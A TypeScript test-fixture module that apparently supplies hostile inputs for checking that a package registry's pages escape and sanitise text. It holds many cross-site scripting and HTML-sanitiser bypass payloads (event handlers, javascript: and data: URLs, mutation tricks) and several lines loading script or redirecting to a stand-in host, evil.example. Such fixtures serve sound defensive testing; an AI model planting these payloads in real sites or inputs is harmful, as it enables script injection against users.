import type { Json } from '../support/sample-records.js'
import { A_HASH, sampleRecipe } from '../support/sample-records.js'

/** Text that would break out of an element, an attribute, a script, a style or a comment, where nothing escapes it. */
export const HOSTILE = `"'><script>attacked()</script><img src=x onerror=attacked()></title></textarea><svg/onload=attacked()>--><!--{{7*7}}\${attacked()}`

/** As much of that as a field of at most `length` characters holds. */
const cut = (length: number): string => `<b onclick=attacked()>${HOSTILE}`.slice(0, length)

/** A definition with hostile text in every field that takes any text at all. */
export const HOSTILE_DEFINITION: Json = {
  summary: HOSTILE,
  homepage: 'javascript:attacked()//<script>attacked()</script>',
  repository: 'data:text/html,<script>attacked()</script>',
  keywords: ['<script>attacked()</script>', '" onmouseover="attacked()'],
  category: '<script>attacked()</script>',
  language: '"><script>attacked()</script>',
  roles: ['<img src=x onerror=attacked()>'],
  status: '<svg/onload=attacked()>',
}

/** Likewise of a release. */
export const HOSTILE_RELEASE: Json = {
  upstreamVersion: cut(128),
  systems: ['x86_64-linux', '<img src=x onerror=a()>'],
  notes: `# ${HOSTILE}\n\n[x](javascript:attacked()) <iframe srcdoc="<script>parent.attacked()</script>"></iframe>`,
  artifact: sampleRecipe({
    mainProgram: cut(128),
    programs: [cut(128)],
    build: { $type: 'dev.firn.recipe#expression', text: `{ }: ''${HOSTILE}''` },
    env: [{ name: '<script>', value: HOSTILE }],
  }),
  provenance: {
    predicateType: 'javascript:attacked()',
    url: 'javascript:attacked()',
    hash: A_HASH,
    builderId: HOSTILE,
  },
}

export const HOSTILE_YANK = HOSTILE

/** Markdown that tries to run something, and raw HTML that does. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>attacked()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=attacked()>',
  '<img src="x" onerror="attacked()" alt="a">',
  '<svg onload=attacked()><animate onbegin=attacked() attributeName=x dur=1s></svg>',
  '<svg><script>attacked()</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>',
  '<iframe src="javascript:attacked()"></iframe>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<object data="javascript:attacked()"></object><embed src="javascript:attacked()">',
  '<a href="javascript:attacked()">x</a>',
  '<a href="java\nscript:attacked()">x</a>',
  '<a href="java&#x09;script:attacked()">x</a>',
  '<a href=" &#14; javascript:attacked()">x</a>',
  '<a href="data:text/html,<script>attacked()</script>">x</a>',
  '<a href="vbscript:attacked()">x</a>',
  '<a href="//evil.example">x</a>',
  '[x](javascript:attacked())',
  '[x](JaVaScRiPt:attacked())',
  '[x](<javascript:attacked()>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)',
  '![x](javascript:attacked())',
  '![x" onerror="attacked()](x)',
  '<javascript:attacked()>',
  '[x]: javascript:attacked()\n\n[x]',
  '`` <script>attacked()</script> ``',
  '```html\n<script>attacked()</script>\n```',
  '```"><script>attacked()</script>\nx\n```',
  '# <img src=x onerror=attacked()>',
  '## "><script>attacked()</script>',
  '<h1 id="main" onclick="attacked()">x</h1>',
  '<div style="position:fixed;inset:0;background:url(javascript:attacked())">x</div>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button formaction="javascript:attacked()">x</button></form>',
  '<input type=image src=x onerror=attacked() autofocus onfocus=attacked()>',
  '<details open ontoggle=attacked()>x</details>',
  '<video><source onerror=attacked()></video><audio src=x onerror=attacked()></audio>',
  '<template><script>attacked()</script></template>',
  '<xss onpointerover=attacked()>x</xss>',
  '<p title="</p><script>attacked()</script>">x</p>',
  '<!--><script>attacked()</script>-->',
  '<![CDATA[><script>attacked()</script>]]>',
  '<?xml version="1.0"?><script>attacked()</script>',
  '| <script>attacked()</script> | b |\n|---|---|\n| <img src=x onerror=attacked()> | "onload=attacked() |',
  '- [ ] <script>attacked()</script>',
  '<a name="x" id="search" target="_top" download ping="https://evil.example">x</a>',
]
